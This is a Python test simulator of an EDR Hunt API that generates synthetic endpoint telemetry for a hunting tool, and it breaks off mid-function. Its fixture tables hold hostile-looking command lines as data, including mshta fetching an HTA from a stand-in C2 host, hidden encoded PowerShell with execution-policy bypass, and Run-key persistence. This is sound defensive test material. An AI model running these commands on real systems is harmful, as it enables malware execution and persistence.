#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""hunt-sim: a simulator of the QRadar EDR (ReaQta) Hunt API, for the tests
and demos of hunt-fetch.  Python 3 standard library only (plus the openssl
command for the test certificates).

It serves POST /rqt-api/1/authenticate and POST /rqt-api/1/events/hunt over
HTTP/1.1 with keep-alive (HTTPS with --tls DIR), pages through a synthetic,
deterministic data set of raw hunt events (event i depends only on --seed
and i; events are generated on demand, never held in memory), evaluates
HunQ queries over it (the fields stix2hunq can emit, with the result-JSON
paths of the stix-shifter key map), and injects faults on chosen hunt
requests (--fault KIND@N).  --dump prints the data set, --match QUERY the
events a query matches.  Run with --help for the options.

Sections: certificates; data set; HunQ; faults; HTTP; command line.

Conventions worth knowing when writing tests:
- Events are raw Hunt API events, keys in the order of the corpus inputs
  (eventId, endpointId, payload{localId, process, incidents,
  triggeredIncidents, data, eventType, relevance}, happenedAt, receivedAt);
  event i happens at 2026-11-01T00:00:00Z + i s + 0-999 ms.  Type 61 events
  have no payload.process.
- HunQ: TERM compares the text of a value exactly, PREFIX is a
  case-insensitive prefix, a list on a path matches through any element;
  *.hasGui compares the inverse of noGui; f != v is NOT (f = v).
- Pages: nextPage is built from the request's Host header; the cursor is
  opaque (base64url JSON of a query digest and an offset).  The fault
  counter counts every POST to the hunt path; a page fault (drop, truncate,
  hugeevent, repeatcursor, offhost) only applies to, and is only counted
  on, a 200 page (repeatcursor and offhost also need a next page);
  repeatcursor on a first page repeats its own cursor-less URL.  hugeevent
  gives event --huge-at of the page (the last one if the page is shorter)
  payload.data.hugeField: the text of --huge-field FILE, or 2 MiB of A."""

import argparse
import base64
import calendar
import collections
import email.utils
import fcntl
import hashlib
import hmac
import json
import os
import random
import re
import secrets
import shutil
import socket
import socketserver
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from array import array
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

AUTH_PATH = '/rqt-api/1/authenticate'
HUNT_PATH = '/rqt-api/1/events/hunt'
EX_DATAERR = 65

_encode = json.JSONEncoder(separators=(',', ':')).encode   # == json.dumps(x, separators=(",", ":"))


def write_atomic(path, text):
    tmp = path + '.tmp'
    with open(tmp, 'w') as f:
        f.write(text)
    os.replace(tmp, path)


# ===========================================================================
# Certificates (--tls DIR, --make-certs DIR)
# ===========================================================================

CERT_FILES = ('ca.key', 'server.key', 'server.pem', 'other-ca.key', 'other-ca.pem', 'ca.pem')  # ca.pem last

OPENSSL_CNF = """\
[req]
distinguished_name = dn
x509_extensions = v3_ca
prompt = no
[dn]
CN = hunt-sim
[v3_ca]
basicConstraints = critical,CA:TRUE
keyUsage = critical,keyCertSign,cRLSign
subjectKeyIdentifier = hash
[v3_server]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature,keyEncipherment
extendedKeyUsage = serverAuth
subjectAltName = DNS:localhost,IP:127.0.0.1
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
"""


def _openssl(*args, cwd):
    p = subprocess.run(('openssl',) + args, cwd=cwd, stdin=subprocess.DEVNULL,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    if p.returncode != 0:
        raise RuntimeError('openssl %s failed: %s' % (args[0], p.stderr.strip() or p.stdout.strip()))


def _generate_certs(d):
    """Write the CA, the server certificate and the unrelated CA into d."""
    with open(os.path.join(d, 'openssl.cnf'), 'w') as f:
        f.write(OPENSSL_CNF)

    def key(name):
        _openssl('genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', name, cwd=d)

    def ca(name, cn):
        key(name + '.key')
        _openssl('req', '-new', '-x509', '-config', 'openssl.cnf', '-key', name + '.key', '-subj', '/CN=' + cn,
                 '-days', '2', '-sha256', '-set_serial', '0x' + secrets.token_hex(8), '-out', name + '.pem', cwd=d)

    ca('ca', 'hunt-sim test CA')
    key('server.key')
    _openssl('req', '-new', '-config', 'openssl.cnf', '-key', 'server.key', '-subj', '/CN=localhost',
             '-out', 'server.csr', cwd=d)
    _openssl('x509', '-req', '-in', 'server.csr', '-CA', 'ca.pem', '-CAkey', 'ca.key',
             '-set_serial', '0x' + secrets.token_hex(8), '-days', '2', '-sha256',
             '-extfile', 'openssl.cnf', '-extensions', 'v3_server', '-out', 'server.pem', cwd=d)
    ca('other-ca', 'hunt-sim other CA')


def make_certs(d):
    """Create DIR/{ca,server,other-ca}.* unless DIR/ca.pem exists.  Safe when
    several processes race: an exclusive lock on DIR/.lock, generation in a
    temporary directory, then renames with ca.pem last (so ca.pem existing
    means the set is complete)."""
    if os.path.exists(os.path.join(d, 'ca.pem')):
        return
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, '.lock'), 'a') as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if os.path.exists(os.path.join(d, 'ca.pem')):
            return
        tmp = tempfile.mkdtemp(prefix='.gen-', dir=d)
        try:
            _generate_certs(tmp)
            for name in CERT_FILES:
                os.replace(os.path.join(tmp, name), os.path.join(d, name))
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


# ===========================================================================
# Data set: event i is a pure function of (seed, i)
# ===========================================================================

M64 = (1 << 64) - 1
GOLDEN = 0x9E3779B97F4A7C15
BASE_MS = calendar.timegm((2026, 11, 1, 0, 0, 0)) * 1000     # 2026-11-01T00:00:00.000Z


def mix64(x):
    """splitmix64 finaliser: a cheap, well-mixed 64-bit hash."""
    x = (x + GOLDEN) & M64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & M64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & M64
    return x ^ (x >> 31)


_day_cache = {}


def iso_ms(ms):
    """Epoch milliseconds -> 'YYYY-MM-DDTHH:MM:SS.mmmZ'."""
    s, frac = divmod(ms, 1000)
    day, sod = divmod(s, 86400)
    ds = _day_cache.get(day)
    if ds is None:
        ds = _day_cache[day] = time.strftime('%Y-%m-%d', time.gmtime(day * 86400))
    hh, rem = divmod(sod, 3600)
    mm, ss = divmod(rem, 60)
    return '%sT%02d:%02d:%02d.%03dZ' % (ds, hh, mm, ss, frac)


def _hashes(name):
    b = ('hunt-sim:' + name).encode()
    return hashlib.md5(b).hexdigest(), hashlib.sha1(b).hexdigest(), hashlib.sha256(b).hexdigest()


CERT_MSWIN = {'signer': 'Microsoft Windows', 'issuer': 'Microsoft Windows Production PCA 2011',
              'trusted': True, 'expired': False}
CERT_MSCORP = {'signer': 'Microsoft Corporation', 'issuer': 'Microsoft Code Signing PCA 2011',
               'trusted': True, 'expired': False}
CERT_GOOGLE = {'signer': 'Google LLC', 'issuer': 'DigiCert SHA2 Assured ID Code Signing CA',
               'trusted': True, 'expired': False}
CERT_PSF = {'signer': 'Python Software Foundation',
            'issuer': 'DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1', 'trusted': True, 'expired': False}
CERT_PUTTY = {'signer': 'Simon Tatham', 'issuer': 'Sectigo Public Code Signing CA R36',
              'trusted': True, 'expired': True}
CERT_ACME = {'signer': 'Acme Updater Ltd', 'issuer': 'Acme Self-Signed Code CA', 'trusted': False, 'expired': False}

# fsName -> (path, original filename, arch, certInfo or None, size, noGui)
PROGRAMS = {
    'cmd.exe': ('c:\\windows\\system32\\cmd.exe', 'cmd.exe', 'x64', CERT_MSWIN, 289792, True),
    'powershell.exe': ('c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', 'powershell.exe',
                       'x64', CERT_MSWIN, 452608, True),
    'explorer.exe': ('c:\\windows\\explorer.exe', 'explorer.exe', 'x64', CERT_MSWIN, 4800512, False),
    'svchost.exe': ('c:\\windows\\system32\\svchost.exe', 'svchost.exe', 'x64', CERT_MSWIN, 57360, True),
    'chrome.exe': ('c:\\program files\\google\\chrome\\application\\chrome.exe', 'chrome.exe', 'x64',
                   CERT_GOOGLE, 2977780, False),
    'winword.exe': ('c:\\program files\\microsoft office\\root\\office16\\winword.exe', 'winword.exe', 'x64',
                    CERT_MSCORP, 1637184, False),
    'rundll32.exe': ('c:\\windows\\system32\\rundll32.exe', 'rundll32.exe', 'x64', CERT_MSWIN, 71680, True),
    'services.exe': ('c:\\windows\\system32\\services.exe', 'services.exe', 'x64', CERT_MSWIN, 714856, True),
    'lsass.exe': ('c:\\windows\\system32\\lsass.exe', 'lsass.exe', 'x64', CERT_MSWIN, 59456, True),
    'winlogon.exe': ('c:\\windows\\system32\\winlogon.exe', 'winlogon.exe', 'x64', CERT_MSWIN, 905216, True),
    'wmiprvse.exe': ('c:\\windows\\system32\\wbem\\wmiprvse.exe', 'wmiprvse.exe', 'x64', CERT_MSWIN, 496640,
                     True),
    'taskhostw.exe': ('c:\\windows\\system32\\taskhostw.exe', 'taskhostw.exe', 'x64', CERT_MSWIN, 99632, True),
    'mshta.exe': ('c:\\windows\\system32\\mshta.exe', 'mshta.exe', 'x64', CERT_MSWIN, 14848, False),
    'whoami.exe': ('c:\\windows\\system32\\whoami.exe', 'whoami.exe', 'x64', CERT_MSWIN, 73728, True),
    'net.exe': ('c:\\windows\\system32\\net.exe', 'net.exe', 'x64', CERT_MSWIN, 57344, True),
    'python.exe': ('c:\\program files\\python311\\python.exe', 'python.exe', 'x64', CERT_PSF, 100840, True),
    'putty.exe': ('c:\\program files\\putty\\putty.exe', 'putty.exe', 'x64', CERT_PUTTY, 1652136, False),
    'tryme.exe': ('c:\\users\\jdoe\\appdata\\local\\temp\\tryme.exe', 'abcd.exe', 'x32', None, 84992, True),
    'payload.exe': ('c:\\users\\jdoe\\downloads\\payload.exe', 'payload.exe', 'x32', None, 73802, True),
    'updater.exe': ('c:\\programdata\\acme\\updater.exe', 'acmeupd.exe', 'x64', CERT_ACME, 523776, True),
}


def _program_object(fsname, path, filename, arch, cert, size):
    md5, sha1, sha256 = _hashes(path)
    prog = {'path': path, 'filename': filename, 'md5': md5, 'sha1': sha1, 'sha256': sha256}
    if cert is not None:
        prog['certInfo'] = cert
    prog['size'] = size
    prog['arch'] = arch
    prog['fsName'] = fsname
    return prog


PROGRAM_OBJ = {fs: _program_object(fs, p[0], p[1], p[2], p[3], p[4]) for fs, p in PROGRAMS.items()}

# Files touched by file events: (path, arch or None for non-PE, certInfo, size, fileType)
FILES = [
    ('c:\\users\\jdoe\\downloads\\invoice_2026.pdf.exe', 'x32', None, 311296, 2),
    ('c:\\users\\jdoe\\appdata\\roaming\\4b8d65.dat', None, None, 7470709, 0),
    ('c:\\windows\\temp\\w5751\\wyserver.wys', None, None, 20480, 0),
    ('c:\\users\\asmith\\documents\\report.docm', None, None, 7300120, 1),
    ('c:\\programdata\\acme\\upd.dll', 'x64', CERT_ACME, 155648, 2),
    ('c:\\users\\jdoe\\appdata\\local\\temp\\run.ps1', None, None, 3498, 0),
    ('c:\\windows\\system32\\drivers\\etc\\hosts', None, None, 824, 0),
    (PROGRAMS['payload.exe'][0], 'x32', None, 73802, 2),
    (PROGRAMS['tryme.exe'][0], 'x32', None, 84992, 2),
    (PROGRAMS['updater.exe'][0], 'x64', CERT_ACME, 523776, 2),
]
DLLS = [
    ('c:\\windows\\system32\\ntdll.dll', 'x64', CERT_MSWIN, 2163184, 'NT Layer DLL'),
    ('c:\\windows\\system32\\kernel32.dll', 'x64', CERT_MSWIN, 770568, 'Windows NT BASE API Client DLL'),
    ('c:\\windows\\system32\\amsi.dll', 'x64', CERT_MSWIN, 88064, 'Anti-Malware Scan Interface'),
    ('c:\\windows\\system32\\vcruntime140.dll', 'x64', CERT_MSCORP, 80896, 'microsoft\u00ae c runtime library'),
    ('c:\\programdata\\acme\\upd.dll', 'x64', CERT_ACME, 155648, 'Acme update helper'),
    ('c:\\users\\jdoe\\appdata\\local\\temp\\inject.dll', 'x64', None, 49152, ''),
]


def _basename(path):
    return path.rsplit('\\', 1)[-1]


USERS = {   # user -> (SID, privilege level)
    'NT AUTHORITY\\SYSTEM': ('S-1-5-18', 'SYSTEM'),
    'NT AUTHORITY\\LOCAL SERVICE': ('S-1-5-19', 'SYSTEM'),
    'NT AUTHORITY\\NETWORK SERVICE': ('S-1-5-20', 'SYSTEM'),
    'CORP\\jdoe': ('S-1-5-21-1004336348-1177238915-682003330-1104', 'MEDIUM'),
    'CORP\\asmith': ('S-1-5-21-1004336348-1177238915-682003330-1107', 'MEDIUM'),
    'CORP\\Administrator': ('S-1-5-21-1004336348-1177238915-682003330-500', 'HIGH'),
    'CORP\\\u00c5dmin \u00dcser': ('S-1-5-21-1004336348-1177238915-682003330-1150', 'LOW'),
    'WIN-7QK\\Administrator': ('S-1-5-21-3623811015-3361044348-30300820-500', 'HIGH'),
    'DESKTOP-TEST\\ReaQta-test': ('S-1-5-21-553604032-439489291-164093683-1019', ''),
}
SERVICE_USERS = ['NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE',
                 'NT AUTHORITY\\NETWORK SERVICE']

# (endpointId, host name, IPv4, IPv6, interactive users)
ENDPOINTS = [
    ('842028663686823936', 'DESKTOP-EXAMPLE2', '10.0.0.21', 'fe80::1c2d:3e4f:5a6b:7c8d',
     ['CORP\\asmith', 'DESKTOP-TEST\\ReaQta-test']),
    ('853377460612210688', 'WIN-7QK', '10.0.0.33', '2001:db8::33',
     ['WIN-7QK\\Administrator', 'CORP\\\u00c5dmin \u00dcser']),
    ('860011223344556677', 'LAPTOP-JDOE', '10.0.0.42', '2001:db8::10', ['CORP\\jdoe']),
    ('841111111118681116', 'SRV-FILES01', '10.0.0.5', '2001:db8::5', ['CORP\\Administrator', 'CORP\\asmith']),
    ('5f2a9c1e7b3d4a60', 'SRV-DC01', '10.0.0.10', '2001:db8::a', ['CORP\\Administrator']),
    ('a1b2c3d4e5f60718', 'BUILD-AGENT7', '10.0.0.77', 'fe80::77', ['CORP\\jdoe', 'CORP\\asmith']),
]

INTERNAL_IPS = ['10.0.0.5', '10.0.0.10', '10.0.0.12', '10.0.0.20', '10.0.0.21', '10.0.0.33', '10.0.0.42',
                '10.0.0.50', '10.0.0.77', '10.0.0.100', '10.0.0.101', '10.0.0.150', '10.0.0.200', '10.0.0.208',
                '10.0.0.250', '10.0.0.254']
PUBLIC_IPS = ['8.8.8.8', '1.1.1.1', '203.0.113.7', '198.51.100.23', '93.184.216.34', '185.199.108.153',
              '52.96.0.10', '128.127.107.216', '104.20.208.21']
REMOTE_IPV6 = ['2001:4860:4860::8888', '2606:4700:4700::1111', '2001:db8::5', '2001:db8::10']
SERVICE_PORTS = [443, 443, 443, 80, 80, 53, 445, 3389, 22, 8080, 8443, 135, 5985]
LISTEN_PORTS = [445, 3389, 22, 80, 443, 5985, 135, 139]

DOMAINS = [  # query name -> answers
    ('settings-win.data.microsoft.com', ['52.96.0.10']),
    ('login.microsoftonline.com', ['52.96.0.10']),
    ('www.example.com', ['93.184.216.34']),
    ('github.com', ['185.199.108.153']),
    ('raw.githubusercontent.com', ['185.199.108.153']),
    ('dns.google', ['8.8.8.8']),
    ('one.one.one.one', ['1.1.1.1']),
    ('pastebin.com', ['104.20.208.21']),
    ('update.acme-updater.example', ['203.0.113.7']),
    ('evil-c2.example.net', ['198.51.100.23']),
    ('xn--80ak6aa92e.com', ['203.0.113.7']),
    ('fileserver.corp.example', ['10.0.0.5']),
    ('dc01.corp.example', ['10.0.0.10']),
    ('intranet.corp.example', ['10.0.0.100']),
]
URLS = [
    'https://github.com/acme/tools/releases/download/v1.2/tool.zip',
    'https://raw.githubusercontent.com/acme/scripts/main/run.ps1',
    'http://update.acme-updater.example/check?v=4.2',
    'http://evil-c2.example.net/gate.php',
    'https://www.example.com/',
    'https://login.microsoftonline.com/common/oauth2/v2.0/token',
    'http://settings-win.data.microsoft.com:443/',
    'https://pastebin.com/raw/abc123',
    'http://intranet.corp.example/index.html',
]
REG_KEYS = [   # (rootObject, value name, data)
    ('\\registry\\machine\\software\\microsoft\\windows\\currentversion\\run', 'OneDrive',
     'c:\\users\\jdoe\\appdata\\local\\microsoft\\onedrive\\onedrive.exe /background'),
    ('\\registry\\machine\\software\\microsoft\\windows\\currentversion\\run', 'AcmeUpdater',
     'c:\\programdata\\acme\\updater.exe --silent'),
    ('\\registry\\user\\s-1-5-21-1004336348-1177238915-682003330-1104\\software\\microsoft\\windows\\'
     'currentversion\\run', 'Updater', 'c:\\users\\jdoe\\appdata\\local\\temp\\tryme.exe'),
    ('\\registry\\machine\\software\\microsoft\\windows\\currentversion\\runonce', 'Setup',
     'c:\\users\\jdoe\\downloads\\payload.exe'),
    ('\\registry\\machine\\software\\microsoft\\windows nt\\currentversion\\winlogon', 'Shell',
     'explorer.exe'),
    ('\\registry\\machine\\system\\controlset001\\services\\ExampleSvc', 'ImagePath',
     'c:\\windows\\system32\\svchost.exe -k wsappx -p'),
]
MITRE = [('T1053', [2, 3, 4]), ('T1059.001', [2]), ('T1003', [6]), ('T1547.001', [3, 4]), ('T1071', [10]),
         ('T1105', [10]), ('T1218.011', [5]), ('T1021.001', [8]), ('T1486', [12]), ('T1082', [7])]
THREATS = [('Trojan', 'Trojan:Win32/Wacatac.B!ml'), ('Backdoor', 'Backdoor:Win32/Cobaltstrike.A'),
           ('HackTool', 'HackTool:Win64/Mimikatz.D'), ('Ransom', 'Ransom:Win32/Dharma.A')]
LOGIN_NAMES = [('jdoe', 'CORP'), ('asmith', 'CORP'), ('Administrator', 'CORP'), ('ReaQta-test', 'DESKTOP-TEST'),
               ('\u00c5dmin \u00dcser', 'CORP')]
INCIDENTS = ['8245%014d' % (n * 7919) for n in range(1, 13)]

# Process creation: parent fsName -> possible children; child fsName -> argument strings
CHILDREN = {
    'explorer.exe': ['cmd.exe', 'powershell.exe', 'chrome.exe', 'winword.exe', 'putty.exe', 'tryme.exe',
                     'payload.exe'],
    'cmd.exe': ['powershell.exe', 'whoami.exe', 'net.exe', 'python.exe', 'rundll32.exe'],
    'powershell.exe': ['cmd.exe', 'whoami.exe', 'net.exe', 'rundll32.exe', 'payload.exe'],
    'winword.exe': ['powershell.exe', 'cmd.exe', 'mshta.exe'],
    'services.exe': ['svchost.exe', 'updater.exe'],
    'svchost.exe': ['taskhostw.exe', 'rundll32.exe'],
    'wmiprvse.exe': ['powershell.exe', 'cmd.exe'],
    'tryme.exe': ['cmd.exe', 'powershell.exe'],
}
ARGS = {
    'cmd.exe': ['/c whoami', '/c net user /domain', '/c ipconfig /all',
                '/c copy \\\\10.0.0.5\\share\\tool.exe c:\\users\\public\\tool.exe'],
    'powershell.exe': ['-NoProfile -ExecutionPolicy Bypass -File c:\\users\\jdoe\\appdata\\local\\temp\\run.ps1',
                       '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', '-Command Get-Process'],
    'chrome.exe': ['--type=renderer --lang=en-US', 'https://www.example.com/'],
    'winword.exe': ['/n c:\\users\\asmith\\documents\\report.docm'],
    'rundll32.exe': ['c:\\programdata\\acme\\upd.dll,DllRegisterServer', 'shell32.dll,Control_RunDLL'],
    'mshta.exe': ['http://evil-c2.example.net/a.hta'],
    'whoami.exe': ['/all', ''],
    'net.exe': ['user /domain', 'localgroup administrators'],
    'python.exe': ['-m http.server 8080', 'c:\\tools\\scan.py 10.0.0.0/24'],
    'putty.exe': ['-ssh admin@10.0.0.5'],
    'svchost.exe': ['-k netsvcs -p', '-k wsappx -p'],
    'wmiprvse.exe': ['-secured -Embedding'],
}

SYSTEM_PROGRAMS = ['services.exe', 'lsass.exe', 'winlogon.exe', 'svchost.exe', 'svchost.exe', 'svchost.exe',
                   'wmiprvse.exe', 'taskhostw.exe']
USER_PROGRAMS = ['explorer.exe', 'cmd.exe', 'cmd.exe', 'powershell.exe', 'powershell.exe', 'chrome.exe',
                 'chrome.exe', 'winword.exe', 'rundll32.exe', 'mshta.exe', 'python.exe', 'putty.exe', 'tryme.exe',
                 'payload.exe', 'updater.exe']


def _process(ep_id, prog, user, pid, start, ppid, pstart, logon, no_gui, iso):
    """A process object; top-level ones carry ISO times, nested ones epoch ms."""
    sid, priv = USERS[user]
    return {'id': '%s:%d:%d' % (ep_id, pid, start), 'parentId': '%s:%d:%d' % (ep_id, ppid, pstart),
            'endpointId': ep_id, 'program': PROGRAM_OBJ[prog], 'user': user, 'pid': pid,
            'startTime': iso_ms(start) if iso else start, 'ppid': ppid,
            'pstartTime': iso_ms(pstart) if iso else pstart, 'userSID': sid, 'privilegeLevel': priv,
            'noGui': no_gui, 'logonId': logon}


class Slot:
    """One long-running process of an endpoint (shared, read-only)."""
    __slots__ = ('prog', 'pid', 'start', 'user', 'top', 'nested')


def _process_table(seed, epi):
    ep_id, _host, _ip4, _ip6, users = ENDPOINTS[epi]
    rr = random.Random('hunt-sim/%d/%d' % (seed, epi))
    slots = []
    used = set()
    for prog in SYSTEM_PROGRAMS + USER_PROGRAMS:
        s = Slot()
        s.prog = prog
        while True:
            s.pid = rr.randrange(400, 65536, 4)
            if s.pid not in used:
                used.add(s.pid)
                break
        s.start = BASE_MS - rr.randrange(3600000, 20 * 86400000)
        pstart = s.start - rr.randrange(1000, 86400000)
        ppid = rr.randrange(400, 65536, 4)
        if prog in SYSTEM_PROGRAMS:
            s.user = 'NT AUTHORITY\\SYSTEM' if prog != 'svchost.exe' else rr.choice(SERVICE_USERS)
        else:
            s.user = rr.choice(users)
        logon = '0x%x' % (0x3e7 if s.user.startswith('NT AUTHORITY') else rr.randrange(0x10000, 0xffffff))
        no_gui = PROGRAMS[prog][5]
        s.top = _process(ep_id, prog, s.user, s.pid, s.start, ppid, pstart, logon, no_gui, True)
        s.nested = _process(ep_id, prog, s.user, s.pid, s.start, ppid, pstart, logon, no_gui, False)
        slots.append(s)
    by_prog = collections.defaultdict(list)
    for s in slots:
        by_prog[s.prog].append(s)
    return slots, dict(by_prog)


class Ctx:
    """What an event generator gets: the PRNG, the endpoint, its processes,
    the acting process, the event time."""
    __slots__ = ('r', 'ep', 'slots', 'by_prog', 'proc', 'ms')

    def pick(self, progs):
        r = self.r.random
        cands = self.by_prog[progs[int(r() * len(progs))]]
        return cands[int(r() * len(cands))]

    def one(self, seq):
        return seq[int(self.r.random() * len(seq))]


def _file_info(c, path, arch, cert, size, ftype, with_file=True):
    md5, sha1, sha256 = _hashes(path)
    name = _basename(path)
    d = {}
    if with_file:
        d['file'] = path
        d['disposition'] = c.one(['File Create', 'File Overwrite If', 'File Open', 'File Supersede'])
    d.update(md5=md5, sha1=sha1, sha256=sha256, fsName=name, size=size)
    if arch is not None:
        d['description'] = ''
        if cert is not None:
            d['certInfo'] = cert
        d['arch'] = arch
    d['creationTime'] = c.ms - c.r.randrange(60000, 86400000 * 30)
    d['accessTime'] = c.ms - c.r.randrange(0, 60000)
    d['lastWriteTime'] = c.ms
    d['fileType'] = ftype
    d['filename'] = name
    d['path'] = path
    if arch is not None:
        d['peType'] = 2 if path.endswith('.dll') else 1
    return d


# --- one generator per event type: (acting programs, function(ctx) -> data) ---

def gen_process_created(c):
    parent = c.proc
    child = c.one(CHILDREN[parent.prog])
    args = c.one(ARGS.get(child, ['']))
    path = PROGRAMS[child][0]
    cmd = ('"%s"' % path if c.r.random() < 0.5 else child) + (' ' + args if args else '')
    cpid = c.r.randrange(400, 65536, 4)
    sid, priv = USERS[parent.user]
    childp = {'id': '%s:%d:%d' % (c.ep[0], cpid, c.ms), 'parentId': parent.top['id'], 'endpointId': c.ep[0],
              'program': PROGRAM_OBJ[child], 'user': parent.user, 'pid': cpid, 'startTime': c.ms,
              'ppid': parent.pid, 'pstartTime': parent.start, 'userSID': sid, 'privilegeLevel': priv,
              'noGui': PROGRAMS[child][5], 'logonId': parent.top['logonId']}
    return {'cmdLine': cmd, 'cmdLineArgs': args.split(), 'childProcess': childp}


def gen_process_terminated(c):
    return {'terminationTime': c.ms, 'exitCode': c.one([0, 0, 0, 1, 259, -1073741510])}


def gen_cross_process(c):
    target = c.pick(['lsass.exe', 'explorer.exe', 'chrome.exe', 'svchost.exe', 'winlogon.exe'])
    return {'targetProcessId': target.pid, 'targetProcess': target.nested, 'accessorProcess': c.proc.nested,
            'desiredAccess': c.one([2035711, 4096, 1040, 1410])}


def gen_file(c):
    path, arch, cert, size, ftype = c.one(FILES)
    return _file_info(c, path, arch, cert, size, ftype)


def gen_file_deleted(c):
    path = c.one(FILES)[0]
    return {'file': path, 'sha256': _hashes(path)[2]}


def gen_network(c):
    r = c.r.random
    v6 = r() < 0.12
    outbound = r() < 0.8
    if outbound:
        rport = c.one(SERVICE_PORTS)
        lport = c.r.randrange(49152, 65536)
        if v6:
            remote = c.one(REMOTE_IPV6)
        else:
            remote = c.one(PUBLIC_IPS) if r() < 0.55 else c.one(INTERNAL_IPS)
    else:
        lport = c.one(LISTEN_PORTS)
        rport = c.r.randrange(49152, 65536)
        remote = c.one(REMOTE_IPV6) if v6 else (c.one(INTERNAL_IPS) if r() < 0.85 else c.one(PUBLIC_IPS))
    proto = 1 if 53 in (rport, lport) else (2 if r() < 0.03 else 0)
    if proto == 2:
        lport = rport = 0
    return {'addressFamily': 1 if v6 else 0, 'protocol': proto, 'localAddr': c.ep[3] if v6 else c.ep[2],
            'localPort': lport, 'remoteAddr': remote, 'remotePort': rport, 'outbound': outbound}


def gen_registry(c):
    root, name, data = c.one(REG_KEYS)
    return {'rootObject': root, 'type': 1, 'name': name, 'data': data}


def gen_wmi_activity(c):
    client = c.pick(['powershell.exe', 'cmd.exe', 'svchost.exe', 'python.exe'])
    local = c.r.random() < 0.7
    host = c.ep[1] if local else c.one(ENDPOINTS)[1]
    return {'version': 1, 'operation': c.one([
        'Start IWbemServices::ExecQuery - root\\cimv2 : select * from win32_process',
        'Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Process::Create',
        'Start IWbemServices::ExecQuery - root\\cimv2 : select id from win32_serverfeature']),
        'namespaceName': '\\\\.\\root\\cimv2', 'etwEventId': 11, 'hostPid': c.proc.pid,
        'activityId': int(c.r.random() * 5), 'clientPid': client.pid, 'clientMachine': host,
        'clientMachineFqn': host + '.corp.example', 'isLocal': local, 'user': client.user}


def gen_wininet(c):
    url = c.one(URLS)
    host = urlsplit(url).netloc
    return {'url': url,
            'requestHeaders': 'GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n\r\n' % (url, host),
            'responseHeaders': 'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n'}


def gen_dns(c):
    name, answers = c.one(DOMAINS)
    nx = c.r.random() < 0.05
    return {'queryName': name, 'queryOptions': 1073766400,
            'queryResults': '' if nx else ''.join(a + ';' for a in answers),
            'queryType': 1, 'status': 9003 if nx else 0}


def _login_common(c, event_id, task):
    user, domain = c.one(LOGIN_NAMES)
    sid = USERS.get('%s\\%s' % (domain, user), ('S-1-5-21-1-2-3-1001',))[0]
    ltype = c.one(['2', '3', '3', '10'])
    client = c.one(ENDPOINTS)
    remote = ltype != '2'
    d = {'etwEventId': event_id, 'etwEventRecordId': c.r.randrange(100000, 999999), 'etwEventVersion': 2,
         'etwTimeCreated': iso_ms(c.ms)[:-1] + '0000Z', 'etwTask': task,
         'etwSubjectUserSid': 'S-1-5-18', 'etwSubjectUserName': c.ep[1] + '$', 'etwSubjectDomainName': 'CORP',
         'etwSubjectLogonId': '0x3e7', 'etwTargetUserSid': sid, 'etwTargetUserName': user,
         'etwTargetDomainName': domain, 'etwLogonType': ltype,
         'etwLogonProcessName': 'User32 ' if ltype != '3' else 'NtLmSsp ',
         'etwAuthenticationPackageName': 'Negotiate' if ltype != '3' else 'NTLM',
         'etwWorkstationName': client[1] if remote else c.ep[1], 'etwWorkstation': client[1] if remote else c.ep[1],
         'etwLogonGuid': '{00000000-0000-0000-0000-000000000000}', 'etwTransmittedServices': '-',
         'etwLmPackageName': 'NTLM V2' if ltype == '3' else '-', 'etwKeyLength': '128' if ltype == '3' else '0',
         'etwProcessId': '0x%x' % c.proc.pid, 'etwProcessName': PROGRAMS[c.proc.prog][0],
         'etwIpAddress': (client[2] if c.r.random() < 0.8 else c.one(PUBLIC_IPS)) if remote else '-',
         'etwIpPort': str(c.r.randrange(49152, 65536)) if remote else '-',
         'etwImpersonationLevel': '%%1833', 'etwRestrictedAdminMode': '-', 'etwTargetOutboundUserName': '-',
         'etwTargetOutboundDomainName': '-', 'etwVirtualAccount': '%%1843', 'etwTargetLinkedLogonId': '0x0',
         'etwElevatedToken': '%%1842'}
    return d


def gen_logon(c):
    d = _login_common(c, 4624, 12544)
    d['etwTargetLogonId'] = '0x%x' % c.r.randrange(0x10000, 0xffffff)
    return d


def gen_logon_failed(c):
    d = _login_common(c, 4625, 12544)
    d['etwStatus'] = '0xc000006d'
    d['etwFailureReason'] = '%%2313'
    d['etwSubStatus'] = c.one(['0xc000006a', '0xc0000064', '0xc0000072'])
    return d


def gen_module(c):
    path, arch, cert, size, desc = c.one(DLLS)
    d = _file_info(c, path, arch, cert, size, 2, with_file=False)
    d['description'] = desc
    return d


def gen_custom(c):
    return {'customType': 'Keeper-info', 'customName': c.one(['Performance monitor', 'Disk monitor']),
            'customDescription': 'Performances: CPU mean: 1.31469% MEM mean: 343853738',
            'relevance': c.r.randrange(0, 30), 'tags': c.one([[], ['perf'], ['perf', 'keeper']]),
            'customData': {'CPU_MEAN': '1.314689', 'EVT_COUNT': str(c.r.randrange(0, 50))}}


def gen_in_memory(c):
    return {'peType': c.one([1, 2]), 'arch': 'x64', 'allocationType': 12288, 'memProtection': 64,
            'baseAddress': c.r.randrange(0x10000000, 0x7fff0000, 0x10000), 'allocatorProc': c.proc.nested,
            'regionSize': c.one([4096, 65536, 221184, 1048576])}


def gen_mitre(c):
    tech, tactics = c.one(MITRE)
